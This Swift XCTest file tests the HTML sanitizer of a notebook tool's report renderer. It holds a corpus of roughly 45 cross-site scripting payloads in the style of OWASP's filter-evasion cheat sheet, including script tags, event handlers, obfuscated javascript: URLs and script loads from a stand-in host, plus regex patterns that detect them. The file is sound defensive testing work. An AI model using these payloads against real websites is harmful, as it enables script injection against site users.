import XCTest
@testable import NotebookKit

/// Prose cells in the HTML report: raw HTML limited to an allow-list, unsafe URLs dropped,
/// and a corpus of XSS payloads (after OWASP's filter-evasion cheat sheet) that must not
/// leave anything executable in the page.
final class ProseSanitizingTests: XCTestCase {
    func prose(_ markdown: String) -> String { HTMLReport.prose(markdown) }

    /// Payloads as a notebook author could write them in a markdown cell.
    static let corpus: [String] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "[link](javascript:alert(3))",
        "[link](JaVaScRiPt:alert(3))",
        "[link]( javascript:alert(3))",
        "[link](java&#x09;script:alert(3))",
        "[link](&#106;avascript:alert(3))",
        "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(4))",
        "![x](data:text/html,<script>alert(5)</script>)",
        "# Heading <img src=x onerror=alert(2)>\nnext line",
        "<img src=x onerror=alert(2)>",
        "<img src=\"x\" onerror=\"alert(2)\"/>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<IMG SRC=javascript&colon;alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"  jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"http://ok.example\" onclick=\"alert(1)\">x</a>",
        "<a href='x' style='background:url(javascript:alert(1))'>x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<img src=x onerror=alert(1)",
        "<a href=\"#\" onclick=alert(1)>x",
        "</section><script>alert(1)</script>",
        "<p>ok</p></section></body><script>alert(1)</script>",
        "text `<script>` in code",
        "```\n<script>alert(1)</script>\n```",
    ]

    func testNoPayloadLeavesScriptEventHandlersOrUnsafeURLs() {
        for payload in Self.corpus {
            if ProcessInfo.processInfo.environment["SWIFTNB_DUMP_XSS"] != nil { print("XSS \(payload)\n => \(prose(payload))") }
            let html = prose(payload).lowercased()
            XCTAssertFalse(html.contains("<script"), "script tag from \(payload): \(html)")
            XCTAssertNil(html.range(of: #"<[a-z][^>]*\son[a-z]+\s*="#, options: .regularExpression),
                         "event handler from \(payload): \(html)")
            XCTAssertNil(html.range(of: #"<[a-z][^>]*(href|src|action|data)\s*=\s*"?\s*(javascript|vbscript|data:text)"#,
                                    options: .regularExpression), "unsafe URL from \(payload): \(html)")
            for tag in ["<svg", "<iframe", "<object", "<embed", "<style", "<link", "<meta", "<form", "<input", "<body", "<math"] {
                XCTAssertFalse(html.contains(tag), "\(tag) from \(payload): \(html)")
            }
            XCTAssertFalse(html.contains("</section"), "a prose cell cannot close the report's elements: \(html)")
        }
    }

    func testDisallowedTagsShowAsText() {
        XCTAssertEqual(prose("<script>alert(1)</script>"), "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
    }

    func testUnsafeLinksKeepTheirText() {
        XCTAssertEqual(prose("[link](javascript:alert(3))"), "<p><a>link</a></p>")
        XCTAssertEqual(prose("[site](https://example.com/a?b=1&c=2)"),
                       "<p><a href=\"https://example.com/a?b=1&amp;c=2\">site</a></p>")
    }

    func testHeadingWithRawImageDoesNotSwallowTheNextLine() {
        let html = prose("# Heading <img src=x onerror=alert(2)>\nnext line")
        XCTAssertEqual(html, "<h1>Heading <img src=\"x\"></h1><p>next line</p>")
    }

    func testAllowedHTMLStaysAndIsBalanced() {
        XCTAssertEqual(prose("Some <b>bold</b> and <kbd>Ctrl</kbd>-<kbd>C</kbd>."),
                       "<p>Some <b>bold</b> and <kbd>Ctrl</kbd>-<kbd>C</kbd>.</p>")
        XCTAssertEqual(HTMLSanitizer.sanitize("<p><b>open"), "<p><b>open</b></p>", "open tags are closed")
        XCTAssertEqual(HTMLSanitizer.sanitize("a</b>c"), "ac", "a stray end tag is dropped")
        XCTAssertEqual(HTMLSanitizer.sanitize("<!-- hidden -->shown"), "shown")
    }

    func testImageDataURLsAreKept() {
        let png = "data:image/png;base64,iVBORw0KGgo="
        XCTAssertEqual(prose("![dot](\(png))"), "<img src=\"\(png)\" alt=\"dot\">")
        XCTAssertFalse(HTMLSanitizer.isSafeURL(png, image: false), "data: links are dropped")
        XCTAssertFalse(HTMLSanitizer.isSafeURL("data:image/svg+xml,<svg onload=alert(1)>", image: true))
    }

    func testURLCheck() {
        for safe in ["https://a.example", "http://a", "mailto:x@y", "figures/a.png", "#intro", "a/b:c", "?q=a:b"] {
            XCTAssertTrue(HTMLSanitizer.isSafeURL(safe, image: false), safe)
        }
        for unsafe in ["javascript:x", " JAVASCRIPT:x", "java\tscript:x", "vbscript:x", "file:///etc/passwd", "data:,x"] {
            XCTAssertFalse(HTMLSanitizer.isSafeURL(unsafe, image: true), unsafe)
        }
    }

    func testCodeKeepsItsText() {
        XCTAssertEqual(prose("use `<b>` here"), "<p>use <code>&lt;b&gt;</code> here</p>")
    }
}
